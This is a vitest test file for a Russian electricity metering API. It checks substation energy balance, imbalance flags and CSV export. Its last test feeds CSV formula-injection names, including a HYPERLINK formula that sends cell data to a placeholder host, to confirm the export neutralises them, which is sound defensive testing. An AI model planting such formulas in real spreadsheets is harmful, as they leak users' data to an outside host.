import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sql } from 'drizzle-orm'
import { storeIntervals, type IntervalRow } from '../../../../src/server/repositories/readings'
import { CHANNEL, INTERVAL_STATUS } from '../../../../src/shared/metering'
import { startTestApp, type TestApp } from '../../../helpers/test-app'
import { msk } from '../../../helpers/factories'

/*
 * Hand-computed balance of one object over 1..3 March 2024 (Moscow):
 * point A (+): meter 1 (ratio 10 x 1) until 2 March 12:00, then meter 2 (ratio 5 x 1); meter 1 writes 1 kWh per
 * half-hour, meter 2 writes 2 kWh, both also before and after their installation (those values must not count).
 * point B (-): meter 3 (ratio 1), 4 kWh per half-hour; 1 March 10:00 is missing (status 1), 11:00 is absent.
 * So A is 480 kWh every day (on 2 March: 24 x 1 x 10 + 24 x 2 x 5), B is 184 on 1 March (46 half-hours), 192 after.
 */
let t: TestApp
let representId: number
let pointA: number
let pointB: number
/** A second object with one point whose meter estimated 1 March 10:30 (status 2), 4 kWh every half-hour. */
let estimatedId: number
let pointC: number
const HALF = 1_800_000
const BALANCE_KEYS = ['in', 'out', 'imbalance', 'imbalance_percent']

function halfHours(
  counterId: number,
  from: Date,
  to: Date,
  value: number,
  skip: (at: Date) => 'missing' | 'absent' | 'estimated' | null = () => null,
): IntervalRow[] {
  const rows: IntervalRow[] = []
  for (let at = from.getTime(); at < to.getTime(); at += HALF) {
    const start = new Date(at)
    const gap = skip(start)
    if (gap === 'absent') continue
    if (gap === 'estimated') rows.push({ counter_id: counterId, channel: CHANNEL.A_PLUS, interval_start: start, value, status: INTERVAL_STATUS.ESTIMATED })
    else
      rows.push({
        counter_id: counterId,
        channel: CHANNEL.A_PLUS,
        interval_start: start,
        value: gap ? null : value,
        status: gap ? INTERVAL_STATUS.MISSING : INTERVAL_STATUS.VALID,
      })
  }
  return rows
}

beforeAll(async () => {
  t = await startTestApp()
  pointA = await t.make.point({ name: 'Ввод Т-1' })
  pointB = await t.make.point({ name: 'Отходящая линия' })
  pointC = await t.make.point({ name: 'Ввод Т-2' })
  const [m1, m2, m3, m4] = [await t.make.meter(), await t.make.meter(), await t.make.meter(), await t.make.meter()]
  await t.make.install(pointA, m1, { at: msk('2024-02-01T00:00:00'), removedAt: msk('2024-03-02T12:00:00'), coeff: 10 })
  await t.make.install(pointA, m2, { at: msk('2024-03-02T12:00:00'), coeff: 5 })
  await t.make.install(pointB, m3, { at: msk('2024-02-01T00:00:00') })
  await t.make.install(pointC, m4, { at: msk('2024-02-01T00:00:00') })
  const from = msk('2024-03-01T00:00:00')
  const to = msk('2024-03-04T00:00:00')
  await storeIntervals(t.database.db, [
    ...halfHours(m1, from, to, 1),
    ...halfHours(m2, from, to, 2),
    ...halfHours(m3, from, to, 4, (at) =>
      at.getTime() === msk('2024-03-01T10:00:00').getTime() ? 'missing' : at.getTime() === msk('2024-03-01T11:00:00').getTime() ? 'absent' : null,
    ),
    ...halfHours(m4, from, to, 4, (at) => (at.getTime() === msk('2024-03-01T10:30:00').getTime() ? 'estimated' : null)),
  ])
  estimatedId = await t.make.object('ТП-2')
  await t.make.withPoints(estimatedId, [pointC])
  // ТП-1 takes in through A and gives out through B.
  representId = await t.make.object('ТП-1')
  await t.make.withPoints(representId, [pointA, pointB], [1, -1])
})
afterAll(() => t.close())

const profile = async (query: string, id = representId) => {
  const res = await t.call(t.adminToken, { method: 'GET', url: `/api/represents/${id}/points_profile_data/?beginDate=2024-03-01&endDate=2024-03-03&${query}` })
  expect(res.statusCode, res.body).toBe(200)
  return res.json()
}

describe('balance from the database', () => {
  it('sums days across a meter change in the middle of a day with each meter’s own ratios', async () => {
    const data = await profile('interval=1440&roundVal=roundWith2')
    const a = `p${pointA}`
    const b = `p${pointB}`
    expect(data.items.map((i: { values: Record<string, number> }) => i.values)).toEqual([
      { [a]: 480, [b]: 184, in: 480, out: 184, imbalance: 296, imbalance_percent: 61.67 },
      { [a]: 480, [b]: 192, in: 480, out: 192, imbalance: 288, imbalance_percent: 60 },
      { [a]: 480, [b]: 192, in: 480, out: 192, imbalance: 288, imbalance_percent: 60 },
    ])
    expect(data.items[0].time).toBe(msk('2024-03-01T00:00:00').toISOString())
    expect(data.items[0].missing).toEqual([b, ...BALANCE_KEYS])
    expect(data.items[1].missing).toEqual([])
  })

  it('gives half-hours around the change and shows the missing ones as missing, not zero', async () => {
    const data = await profile('interval=30')
    expect(data.items).toHaveLength(3 * 48)
    const at = (local: string) => data.items.find((i: { time: string }) => i.time === msk(local).toISOString())
    expect(at('2024-03-02T11:30:00').values[`p${pointA}`]).toBe(10)
    expect(at('2024-03-02T12:00:00').values[`p${pointA}`]).toBe(10)
    expect(at('2024-03-01T10:00:00').values).toMatchObject({ [`p${pointB}`]: null, out: null, imbalance: null, imbalance_percent: null })
    expect(at('2024-03-01T11:00:00').missing).toContain(`p${pointB}`)
    expect(at('2024-03-01T12:00:00').values).toMatchObject({ [`p${pointA}`]: 10, [`p${pointB}`]: 4, in: 10, out: 4, imbalance: 6, imbalance_percent: 60 })
  })

  it('groups hours, months, and gives average power and losses in percent', async () => {
    const hours = await profile('interval=60&energy_format=kv')
    expect(hours.items).toHaveLength(72)
    // 2 March 11:00-12:00: 2 half-hours of 10 kWh -> 20 kWh over 60 minutes -> 20 kW
    expect(hours.items.find((i: { time: string }) => i.time === msk('2024-03-02T11:00:00').toISOString()).values[`p${pointA}`]).toBe(20)
    const month = await profile('interval=43200&showLostInPercentage=true&roundVal=roundWith1')
    expect(month.items).toHaveLength(1)
    // (1440 - 568) / 1440 = 60.555... %: percents keep two decimals whatever the object's rounding
    expect(month.items[0].values).toMatchObject({ [`p${pointA}`]: 1440, [`p${pointB}`]: 568, imbalance: 872, imbalance_percent: 60.56 })
    const onlyA = await profile(`interval=525600&points=${pointA}&roundVal=round0`)
    expect(onlyA.headers.map((h: { key: string }) => h.key)).toEqual(['time', `p${pointA}`, ...BALANCE_KEYS])
  })

  it('answers the same from raw half-hours and from the daily rollup', async () => {
    const days = await profile('interval=1440&roundVal=roundWith3')
    const halves = await profile('interval=30&roundVal=roundWith3')
    const perDay = [0, 1, 2].map((d) =>
      halves.items.slice(d * 48, d * 48 + 48).reduce((s: number, i: { values: Record<string, number | null> }) => s + (i.values[`p${pointA}`] ?? 0), 0),
    )
    expect(perDay).toEqual(days.items.map((i: { values: Record<string, number> }) => i.values[`p${pointA}`]))
  })

  it('counts an estimated half-hour in the energy but marks its hour and day incomplete', async () => {
    const c = `p${pointC}`
    const hours = await profile('interval=60', estimatedId)
    const hour = hours.items.find((i: { time: string }) => i.time === msk('2024-03-01T10:00:00').toISOString())
    expect(hour.values[c]).toBe(8)
    expect(hour.missing).toEqual([c, ...BALANCE_KEYS])
    const days = await profile('interval=1440', estimatedId)
    expect(days.items.map((i: { values: Record<string, number> }) => i.values[c])).toEqual([192, 192, 192])
    expect(days.items.map((i: { missing: string[] }) => i.missing)).toEqual([[c, ...BALANCE_KEYS], [], []])
  })
})

describe('the balance an engineer reads', () => {
  /*
   * ТП-1 over 1..3 March: Приём is point A (+), 3 x 480 = 1440 kWh; Отдача is point B (-), 184 + 192 + 192 = 568 kWh;
   * Небаланс 1440 - 568 = 872 kWh, 872 / 1440 = 60.56 % of the received, against 5 % allowed by default. The verdict
   * counts only 2 and 3 March (B misses half-hours on 1 March): in 960, out 384, imbalance 576 = 60 %.
   */
  it('shows Приём, Отдача and Небаланс in kWh and % for the period, flagged beyond the allowed imbalance', async () => {
    const data = await profile('interval=1440')
    expect(data.headers.slice(3).map((h: { title: string; unit: string }) => `${h.title}, ${h.unit}`)).toEqual([
      'Приём, кВт·ч',
      'Отдача, кВт·ч',
      'Небаланс, кВт·ч',
      'Небаланс, %',
    ])
    expect(data.summary).toEqual({
      incoming: 960,
      outgoing: 384,
      imbalance: 576,
      imbalance_percent: 60,
      allowed_percent: 5,
      unit: 'кВт·ч',
      exceeded: true,
      no_incoming: false,
      no_outgoing: false,
      partial: true,
    })
    expect(data.total.values).toEqual({ [`p${pointA}`]: 1440, [`p${pointB}`]: 568, in: 1440, out: 568, imbalance: 872, imbalance_percent: 60.56 })
    // 1 March is not judged: its imbalance counts B's missing half-hours as losses.
    expect(data.items.map((i: { flagged: string[] }) => i.flagged)).toEqual([[], ['imbalance', 'imbalance_percent'], ['imbalance', 'imbalance_percent']])

    const put = await t.call(t.adminToken, { method: 'PUT', url: `/api/represents/${representId}/`, payload: { name: 'ТП-1', allowed_imbalance: '60,5' } })
    expect(put.statusCode, put.body).toBe(200)
    expect(put.json().allowed_imbalance).toBe(60.5)
    const allowed = await profile('interval=1440')
    expect(allowed.summary).toMatchObject({ allowed_percent: 60.5, exceeded: false })
    expect(allowed.items.map((i: { flagged: string[] }) => i.flagged.length)).toEqual([0, 0, 0])
  })

  it('refuses an allowed imbalance outside 0..100 in Russian', async () => {
    const res = await t.call(t.adminToken, { method: 'PUT', url: `/api/represents/${representId}/`, payload: { name: 'ТП-1', allowed_imbalance: 150 } })
    expect(res.statusCode).toBe(400)
    expect(res.body).toContain('Значение должно быть от 0 до 100')
  })

  it('flags an object with no outgoing points: its whole input is not a loss', async () => {
    const data = await profile('interval=1440', estimatedId)
    expect(data.summary).toMatchObject({ incoming: 384, outgoing: 0, imbalance: 384, imbalance_percent: 100, no_outgoing: true, exceeded: true })
  })

  it('writes the same columns and the total into the CSV', async () => {
    const url = `/api/represents/${representId}/points_profile_csv/?beginDate=2024-03-01&endDate=2024-03-03&interval=1440`
    const res = await t.call(t.adminToken, { method: 'GET', url })
    expect(res.statusCode).toBe(200)
    const lines = res.body.replace('\uFEFF', '').trim().split('\r\n')
    expect(lines[0]).toBe('Дата;Ввод Т-1, кВт·ч;Отходящая линия, кВт·ч;Приём, кВт·ч;Отдача, кВт·ч;Небаланс, кВт·ч;Небаланс, %')
    expect(lines[2]).toBe('02.03.2024 00:00;480;192;480;192;288;60')
    expect(lines.at(-1)).toBe('Итого;1440;568;1440;568;872;60,56')
  })

  it('writes a name that a spreadsheet would read as a formula as text in the CSV', async () => {
    const rename = (name: string) => t.database.db.execute(sql`update points set name = ${name} where point_id = ${pointB}`)
    const header = async () => {
      const url = `/api/represents/${representId}/points_profile_csv/?beginDate=2024-03-01&endDate=2024-03-01&interval=1440`
      return (await t.call(t.adminToken, { method: 'GET', url })).body.replace('\uFEFF', '').split('\r\n')[0]!.split(';')
    }
    try {
      for (const name of ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(1)']) {
        await rename(name)
        expect((await header())[2], name).toMatch(/^"?'[=+\-@]/)
      }
    } finally {
      await rename('Отходящая линия')
    }
  })
})
